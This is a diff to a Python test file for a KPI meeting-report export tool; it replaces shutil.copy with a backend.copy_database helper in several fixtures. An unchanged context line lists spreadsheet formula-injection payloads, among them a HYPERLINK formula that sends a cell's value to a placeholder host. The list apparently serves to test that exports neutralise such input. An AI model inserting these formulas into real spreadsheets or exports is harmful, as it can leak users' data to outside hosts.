@@ -6,12 +6,12 @@ Quý III after a planted change, so every report has a "changes since the last m
 from __future__ import annotations
 
 import datetime as dt
-import shutil
 from pathlib import Path
 
 import pytest
 
 from kpi import db
+from tests import backend
 from kpi.cycle import demo
 from kpi.meetings import snapshots
 from kpi.meetings.export import build_report
@@ -31,8 +31,7 @@ HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-1+1", "@SUM(
 @pytest.fixture(scope="session")
 def demo_db_file(seeded_db_file, tmp_path_factory) -> Path:
     """Bundled plans plus the illustrative reports, with snapshot 1 (Quý II) and snapshot 2 (Quý III)."""
-    path = tmp_path_factory.mktemp("export") / "demo.duckdb"
-    shutil.copy(seeded_db_file, path)
+    path = backend.copy_database(seeded_db_file, tmp_path_factory.mktemp("export"), "demo.duckdb")
     con = io.open_database(path)
     demo.load(con)
     snapshots.create(con, scope(LARGEST, "2023-Q2"), name="Họp giao ban Quý II/2023", by="Nguyễn Văn A", now=dt.datetime(2023, 7, 10, 9, 0))
@@ -43,9 +42,7 @@ def demo_db_file(seeded_db_file, tmp_path_factory) -> Path:
 
 @pytest.fixture
 def demo_db(demo_db_file, tmp_path):
-    path = tmp_path / "demo.duckdb"
-    shutil.copy(demo_db_file, path)
-    con = db.connect(path)
+    con = db.connect(backend.copy_database(demo_db_file, tmp_path, "demo.duckdb"))
     yield con
     con.close()
 
@@ -53,9 +50,7 @@ def demo_db(demo_db_file, tmp_path):
 @pytest.fixture(scope="session")
 def report(demo_db_file, tmp_path_factory):
     """The Quý III snapshot's report (changes measured from the Quý II snapshot)."""
-    path = tmp_path_factory.mktemp("report") / "demo.duckdb"
-    shutil.copy(demo_db_file, path)
-    con = db.connect(path)
+    con = db.connect(backend.copy_database(demo_db_file, tmp_path_factory.mktemp("report"), "demo.duckdb"))
     try:
         yield build_report(con, snapshot_id=2, now=dt.datetime(2023, 10, 12, 9, 0))
     finally:
